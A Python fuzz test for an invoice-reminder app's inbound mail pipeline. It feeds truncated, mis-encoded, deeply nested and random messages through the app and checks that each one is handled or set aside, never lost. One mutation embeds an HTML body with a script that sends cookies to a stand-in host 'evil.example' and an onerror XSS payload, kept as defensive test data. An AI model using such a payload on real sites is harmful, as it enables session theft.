"""Hostile and broken mail through the whole inbound path (mailbox -> parse -> link -> store):
never a crash, never a lost message: each one is handled or set aside for a person."""

from __future__ import annotations

import datetime as dt
import mailbox
import random
import re
import sqlite3
import tempfile
from pathlib import Path
from zoneinfo import ZoneInfo

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from relancebot.app import App
from relancebot.config import load_settings
from relancebot.inbox.maildir import MaildirMailbox

from .conftest import Firm

REPO = Path(__file__).resolve().parents[1]
SAMPLES = (
    sorted((REPO / "tests" / "corpus" / "replies").glob("*.eml"))[:60]
    + sorted((REPO.parent / "shared" / "corpus" / "bounces").glob("*.eml"))[:60]
)
NOW = dt.datetime(2026, 11, 20, 10, 0, tzinfo=ZoneInfo("Europe/Paris"))


def mutate(raw: bytes, rng: random.Random) -> bytes:
    """One of the ways real mail arrives broken."""
    head, _, body = raw.partition(b"\n\n")
    kind = rng.randrange(9)
    if kind == 0:  # truncated anywhere
        return raw[: rng.randrange(1, max(len(raw), 2))]
    if kind == 1:  # a lying charset
        return raw.replace(b"utf-8", b"x-unknown-8").replace(b"UTF-8", b"iso-2022-kr")
    if kind == 2:  # headers duplicated or dropped
        lines = head.split(b"\n")
        rng.shuffle(lines)
        return (
            b"\n".join(lines[: rng.randrange(len(lines) + 1)] * rng.randrange(1, 3))
            + b"\n\n"
            + body
        )
    if kind == 3:  # deep MIME nesting
        nested = b"Content-Type: text/plain\n\nbonjour, deja paye\n"
        for depth in range(300):
            nested = (
                f'Content-Type: multipart/mixed; boundary="b{depth}"\n\n--b{depth}\n'.encode()
                + nested
                + f"\n--b{depth}--\n".encode()
            )
        return b"From: x@y.fr\nSubject: nested\n" + nested
    if kind == 4:  # random bytes flipped
        data = bytearray(raw)
        for _ in range(rng.randrange(1, 40)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        return bytes(data)
    if kind == 5:  # an HTML body with scripts and a link
        return (
            b"From: pirate@evil.example\nSubject: RE: facture F-2026-0412\n"
            b"Content-Type: text/html\n\n<script>fetch('http://evil.example/'+document.cookie)"
            b"</script><a href='http://evil.example/pay'>deja paye</a><img src=x onerror=alert(1)>"
        )
    if kind == 6:  # malformed encoded words and NUL bytes
        return (
            b"From: =?utf-8?q?=E9=?= <a@b.fr>\nSubject: =?utf-8?b?!!!?= =?x?q?\x00?=\n\n"
            b"\x00\x00 pas recu la facture \xff\xfe"
        )
    if kind == 7:  # no headers at all
        return body or b"\n"
    return raw.replace(b"\n", b"\r\n") if rng.random() < 0.5 else raw.replace(b"\r\n", b"\n")


def replies_by_state(root: Path) -> dict[str, int]:
    with sqlite3.connect(root / "relancebot.db") as conn:
        return dict(conn.execute("SELECT state, COUNT(*) FROM replies GROUP BY state").fetchall())


def test_mutated_real_mail_and_a_30_mb_attachment(firm: Firm) -> None:
    rng = random.Random(7)
    inbox = mailbox.Maildir(firm.root / "inbox", create=True)
    count = 0
    for sample in SAMPLES:
        for copy in range(3):
            # Each its own message: without its Message-ID, and marked, so the watcher's
            # "same Message-ID, same message" rule cannot merge two mutants of one sample.
            original = re.sub(rb"(?im)^message-id:.*\r?\n", b"", sample.read_bytes())
            marker = f"\nX-Fuzz: {sample.name} {copy}\n".encode()
            inbox.add(mutate(original, rng) + marker)
            count += 1
    big = (
        b"From: compta@dupont.fr\nSubject: RE: facture\nContent-Type: application/pdf\n"
        b"Content-Transfer-Encoding: base64\n\n" + b"QUJD" * (30 * 2**20 // 4)
    )
    inbox.add(big)
    count += 1
    inbox.close()

    result = firm.run("tick", now="2026-11-20T10:00")
    assert "réponse(s) lue(s)" in result.output
    states = replies_by_state(firm.root)
    assert sum(states.values()) == count, states  # none lost
    assert states.get("oversized") == 1
    firm.run("tick", now="2026-11-20T10:10")
    assert sum(replies_by_state(firm.root).values()) == count  # none handled twice


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.binary(max_size=3000), st.text(max_size=200))
def test_anything_is_handled_or_set_aside(tmp_path: Path, junk: bytes, words: str) -> None:
    root = Path(tempfile.mkdtemp(dir=tmp_path))
    (root / "config.toml").write_text('timezone = "Europe/Paris"\n', encoding="utf-8")
    app = App(load_settings(root / "config.toml", explicit=True))
    box = mailbox.Maildir(root / "inbox", create=True)
    box.add(junk)
    box.add(b"From: a@b.fr\nSubject: " + words.encode("utf-8", "replace") + b"\n\n" + junk)
    box.close()
    watcher = app.watcher(MaildirMailbox(root / "inbox"), app.db, lambda: NOW)
    watcher.mailbox.connect()
    report = watcher.catch_up()
    assert len(report.handled) + len(report.problems) == 2
    assert app.db.execute("SELECT COUNT(*) FROM replies").fetchone() == (2,)
